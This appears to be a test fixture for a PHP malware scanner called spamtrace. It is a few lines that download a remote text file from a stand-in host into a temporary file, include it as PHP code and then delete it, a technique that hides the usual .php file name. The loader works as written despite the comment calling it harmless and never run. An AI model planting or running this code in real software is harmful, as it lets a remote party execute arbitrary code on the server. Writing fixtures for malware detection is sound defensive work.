<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Code downloaded into a temporary file, then included: no .php file name shows.
$tmp = tempnam(sys_get_temp_dir(), 'upd');
file_put_contents($tmp, file_get_contents('http://203.0.113.7/payload.txt'));
include $tmp;
unlink($tmp);
